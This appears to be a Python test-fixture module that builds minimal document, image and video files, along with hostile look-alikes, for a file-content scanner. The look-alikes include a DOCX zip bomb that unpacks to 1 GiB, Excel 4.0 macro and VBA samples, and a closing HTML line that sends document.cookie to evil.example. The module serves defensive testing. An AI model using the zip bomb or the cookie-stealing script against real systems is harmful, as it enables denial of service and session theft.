"""Files built byte by byte for the content checks: real minimal documents and videos, and hostile look-alikes."""

import io
import struct
import zipfile
import zlib

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OOXML_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def zip_bytes(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _rels(*relationships: tuple[str, str, str]) -> bytes:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"{mode}/>'
        for i, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{items}</Relationships>'.encode()


def ooxml_parts(
    kind: str = "docx",
    *,
    main_type: str = "",
    overrides: dict[str, str] | None = None,
    part_relationships: list[tuple[str, str, str]] = (),
    parts: dict[str, bytes] | None = None,
) -> dict[str, bytes]:
    """The parts of a minimal Office Open XML package, as Word, Excel or PowerPoint write them."""
    main, default_type = OOXML_MAIN[kind]
    folder, main_name = main.split("/")
    declared = {f"/{main}": main_type or default_type, **(overrides or {})}
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{part}" ContentType="{ctype}"/>' for part, ctype in declared.items())
        + "</Types>"
    ).encode()
    entries = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _rels((f"{R}/officeDocument", main, "")),
        main: b'<?xml version="1.0"?><document/>',
    }
    if part_relationships:
        entries[f"{folder}/_rels/{main_name}.rels"] = _rels(*part_relationships)
    entries.update(parts or {})
    return entries


def ooxml_bytes(kind: str = "docx", **options) -> bytes:
    return zip_bytes(ooxml_parts(kind, **options))


def zip_bomb_docx(unpacked_mib: int = 1024) -> bytes:
    """A DOCX whose ``word/document.xml`` unpacks to ``unpacked_mib`` MiB of zeros (1 GiB from about 1 MB).

    Deflate output is byte-aligned and restarts after a full flush, so one
    compressed 8 MiB run of zeros repeated is a valid stream of many runs; the
    archive is written by hand because ``zipfile`` cannot take precompressed data.
    """
    run = b"\0" * (8 * 1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(run) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = unpacked_mib // 8
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(run, crc)
    entries = []
    for name, data in ooxml_parts("docx").items():
        if name != "word/document.xml":
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            entries.append((name, packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)))
    entries.append(("word/document.xml", block * count + b"\x03\x00", crc, len(run) * count))
    out, directory = bytearray(), bytearray()
    for name, packed, checksum, size in entries:
        encoded = name.encode()
        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0x21, checksum, len(packed), size, len(encoded))
        directory += struct.pack("<IH", 0x02014B50, 20) + fields
        directory += struct.pack("<HHHHII", 0, 0, 0, 0, 0, len(out)) + encoded
        out += struct.pack("<I", 0x04034B50) + fields + struct.pack("<H", 0) + encoded + packed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(out), 0)
    return bytes(out + directory + end)


def odf_bytes(mimetype: str = "application/vnd.oasis.opendocument.text", **extra: bytes) -> bytes:
    return zip_bytes(
        {
            "mimetype": mimetype.encode(),
            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest/>',
            "content.xml": b'<?xml version="1.0"?><office:document-content/>',
            **extra,
        }
    )


# --- OLE2 compound files (Word, Excel, PowerPoint 97–2003) -------------------

_FREE, _END, _FAT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole_bytes(tree: dict) -> bytes:
    """A version 3 compound file: ``tree`` maps names to bytes (a stream) or to a dict (a storage).

    Streams are padded to 4096 bytes so that all of them live in regular sectors.
    """
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": tree}]
    sectors: list[bytes] = []

    def add(entry_index: int) -> None:
        children = entries[entry_index]["children"]
        ids = []
        for name in sorted(children, key=lambda n: (len(n), n.upper())):
            value = children[name]
            index = len(entries)
            if isinstance(value, dict):
                entries.append({"name": name, "type": 1, "children": value})
                add(index)
            else:
                data = value.ljust(4096, b"\0")
                entries.append({"name": name, "type": 2, "start": len(sectors), "size": len(data)})
                sectors.extend(data[i : i + 512] for i in range(0, len(data), 512))
            ids.append(index)
        # Siblings as a right-leaning chain, all black: a valid (if unbalanced) directory tree.
        for left, right in zip(ids, ids[1:], strict=False):
            entries[left]["right"] = right
        entries[entry_index]["child"] = ids[0] if ids else _NONE

    add(0)
    directory = b"".join(_dir_entry(entry) for entry in entries)
    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\0")
    dir_sectors = len(directory) // 512
    data_sectors = len(sectors)
    fat_sectors = 1
    while (fat_sectors + dir_sectors + data_sectors) > fat_sectors * 128:
        fat_sectors += 1
    fat: list[int] = [_FAT] * fat_sectors
    first_dir = len(fat)
    fat += [first_dir + i + 1 for i in range(dir_sectors - 1)] + [_END]
    data_start = len(fat)
    for entry in entries:
        if entry["type"] == 2:
            entry["start"] += data_start
    directory = b"".join(_dir_entry(entry) for entry in entries)
    directory = directory.ljust(dir_sectors * 512, b"\0")
    for entry in entries:
        if entry["type"] == 2:
            count = entry["size"] // 512
            fat += [entry["start"] + i + 1 for i in range(count - 1)] + [_END]
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    difat = list(range(fat_sectors)) + [_FREE] * (109 - fat_sectors)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, fat_sectors, first_dir, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<109I", *difat)
    )
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(sectors)


def _dir_entry(entry: dict) -> bytes:
    name = entry["name"].encode("utf-16-le")
    return (
        name.ljust(64, b"\0")
        + struct.pack("<HBB", len(name) + 2, entry["type"], 1)
        + struct.pack("<III", entry.get("left", _NONE), entry.get("right", _NONE), entry.get("child", _NONE))
        + b"\0" * 16
        + b"\0" * 4
        + b"\0" * 16
        + struct.pack("<IQ", entry.get("start", _END if entry["type"] == 5 else 0), entry.get("size", 0))
    )


def biff_record(record: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", record, len(body)) + body


def xls_bytes(*, sheet_type: int = 0) -> bytes:
    """An Excel 97–2003 workbook whose one sheet is a worksheet (0), an Excel 4.0 macro sheet (1)…"""
    workbook = (
        biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
        + biff_record(0x0085, struct.pack("<IBB", 0, 0, sheet_type) + b"\x05\x00Sheet")
        + biff_record(0x000A)
    )
    return ole_bytes({"Workbook": workbook})


def ppt_record(record: int, body: bytes = b"", *, container: bool = False) -> bytes:
    return struct.pack("<HHI", 0x000F if container else 0x0000, record, len(body)) + body


def ppt_bytes(*, vba: bool = False) -> bytes:
    inner = ppt_record(0x0401, b"\0" * 40)  # DocumentAtom
    if vba:
        inner += ppt_record(0x03FF, ppt_record(0x0400, b"\0" * 12), container=True)
    document = ppt_record(0x03E8, inner, container=True)
    return ole_bytes({"PowerPoint Document": document, "Current User": b"\0" * 20})


# --- Images and videos ------------------------------------------------------


def image_bytes(fmt: str = "JPEG", size: tuple[int, int] = (32, 24)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def box(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4_bytes(media: bytes = b"\x00" * 512) -> bytes:
    mvhd = box(b"mvhd", b"\x00" * 100)
    return box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + box(b"moov", mvhd) + box(b"mdat", media)


def ebml(element_id: int, body: bytes, *, unknown_size: bool = False) -> bytes:
    identifier = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    size = b"\x01\xff\xff\xff\xff\xff\xff\xff" if unknown_size else b"\x01" + len(body).to_bytes(7, "big")
    return identifier + size + body


def webm_bytes(*, recorded_live: bool = False) -> bytes:
    header = ebml(0x1A45DFA3, b"\x42\x86\x81\x01" + b"\x42\x82\x84webm" + b"\x42\x87\x81\x04")
    info = ebml(0x1549A966, ebml(0x2AD7B1, b"\x0f\x42\x40"))
    tracks = ebml(0x1654AE6B, ebml(0xAE, ebml(0xD7, b"\x01") + ebml(0x86, b"V_VP8")))
    cluster_body = ebml(0xE7, b"\x00") + ebml(0xA3, b"\x81\x00\x00\x80" + b"\x00" * 64)
    cluster = ebml(0x1F43B675, cluster_body, unknown_size=recorded_live)
    segment_body = info + tracks + cluster
    if recorded_live:
        segment_body += ebml(0x1F43B675, cluster_body, unknown_size=True)
    return header + ebml(0x18538067, segment_body, unknown_size=recorded_live)


def riff_chunk(tag: bytes, body: bytes) -> bytes:
    return struct.pack("<4sI", tag, len(body)) + body + (b"\0" if len(body) % 2 else b"")


def avi_bytes() -> bytes:
    hdrl = b"hdrl" + riff_chunk(b"avih", b"\0" * 56)
    movi = b"movi" + riff_chunk(b"00dc", b"\0" * 100)
    body = b"AVI " + riff_chunk(b"LIST", hdrl) + riff_chunk(b"LIST", movi) + riff_chunk(b"idx1", b"\0" * 16)
    return struct.pack("<4sI", b"RIFF", len(body)) + body


HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
